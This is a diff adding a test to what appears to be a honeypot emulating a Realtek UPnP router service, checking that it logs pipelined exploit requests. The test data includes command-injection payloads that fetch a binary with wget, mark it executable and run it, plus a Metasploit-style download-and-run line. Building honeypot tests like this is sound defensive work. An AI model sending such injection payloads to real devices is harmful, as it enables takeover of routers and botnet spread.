@@ -312,6 +312,34 @@ def test_doors_realtek_three_requests_file_kept_between_connections():
         dns.close()
 
 
+def test_doors_realtek_pipelined_download_then_run():
+    """The r00ts3c pattern: the download and the run sent at once on one
+    connection. Each is logged with a body of exactly its declared length
+    (the bytes after it up to the next request line are not its body),
+    answered in order, and run in order before the connection closes."""
+    cmds = ["cd /tmp; wget http://127.0.0.1/r -O r", "cd /tmp; chmod +x r; ./r realtek"]
+    b1 = rt_body("`%s`" % cmds[0])
+    b2 = rt_body("`%s`" % cmds[1])
+    n1 = len(b1) - 4  # the trailing CR LF CR LF is not counted, as the bot sends it
+    with miniigd() as d:
+        c = Conn(d.port)
+        c.send(rt_request(b1, length=n1) + rt_request(b2, length=len(b2)))
+        for _ in range(2):
+            head, body = read_response(c)
+            assert head.startswith(b"HTTP/1.1 200 OK\r\n"), head
+            assert b"AddPortMappingResponse" in body, body
+        assert c.wait_closed(5)
+        c.close()
+        ex = exploits(d, 2)
+        assert [e["command"] for e in ex] == cmds, ex
+        evs = d.wait_events(lambda e: len(inputs(e)) >= 2)
+        reqs = by_id(evs, "tanuki.http.request")
+        assert [(r["content_length"], r["body_size"]) for r in reqs] == [
+            (n1, n1), (len(b2), len(b2))], reqs
+        assert inputs(evs) == cmds
+        assert urls(evs) == ["http://127.0.0.1/r"]
+
+
 def test_doors_realtek_metasploit_wanipcn_and_understated_length():
     cmd = "cd /tmp/; wget http://127.0.0.1:4444/msf -O /tmp/msf; chmod +x /tmp/msf; /tmp/msf"
     with miniigd() as d:
